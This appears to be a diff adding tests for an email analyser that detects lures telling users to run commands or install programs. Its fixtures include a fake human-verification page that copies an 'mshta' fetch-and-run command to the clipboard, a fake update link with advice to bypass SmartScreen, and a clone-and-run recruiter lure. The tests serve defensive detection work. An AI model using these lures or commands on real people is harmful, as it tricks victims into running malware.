@@ -1,0 +1,60 @@
+import { describe, expect, it } from 'vitest';
+import { context, message } from './fixture.js';
+import { selfRun } from './self-run.js';
+
+const codes = async (parts: Parameters<typeof message>[0]) =>
+  (await selfRun.analyse(await message(parts), context())).map((s) => s.code);
+
+describe('the self-run analyser', () => {
+  it('names a page that copies a command and tells you to paste it into the Run box', async () => {
+    const page =
+      '<html><body><h3>Verify you are human</h3><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol><script>navigator.clipboard.writeText("mshta https://cdn.example.net/x.hta")</script></body></html>';
+    const [found] = await selfRun.analyse(
+      await message({
+        from: 'Accounts <accounts@supplier.example>',
+        text: 'Please find the invoice in the attached secure viewer.',
+        attachments: [{ filename: 'Invoice.html', contentType: 'text/html', content: Buffer.from(page) }],
+      }),
+      context(),
+    );
+    expect(found).toMatchObject({ code: 'paste-command', weight: 55 });
+    expect(found.explanation).toContain('copies the command for you');
+  });
+
+  it('names a program to download from an unknown site, a way past the warning, and a project to clone and run', async () => {
+    expect(
+      await codes({
+        from: 'IT <it@helpdesk-updates.example>',
+        text: 'Install the patch: https://browser-update.example.net/UpdateSetup.exe\nIf SmartScreen warns you, click "Run anyway".',
+      }),
+    ).toEqual(['warning-override', 'program-link']);
+    expect(
+      await codes({
+        from: 'Recruiter <talent@gmail.com>',
+        text: 'Clone the project from https://git-portal.example.net/x/dashboard, run npm install and npm start, then fix the bug.',
+      }),
+    ).toEqual(['program-link']);
+  });
+
+  it("says nothing of IT's own install guide, a vendor's own download, or a list discussing commands", async () => {
+    expect(
+      await codes({
+        from: 'IT Service Desk <servicedesk@corp.example>',
+        text: 'Install the new client from Software Center before Monday. Guide: https://intranet.corp.example/it/vpn',
+      }),
+    ).toEqual([]);
+    expect(
+      await codes({
+        from: 'Releases <news@tool.example>',
+        text: 'Version 4 is out: https://downloads.tool.example/Tool-4.0.msi',
+      }),
+    ).toEqual([]);
+    expect(
+      await codes({
+        from: 'Dev list <dev@lists.example>',
+        headers: ['List-Id: <dev.lists.example>'],
+        text: 'Open PowerShell and paste the command below, then press Enter: https://x.example/get.ps1',
+      }),
+    ).toEqual([]);
+  });
+});
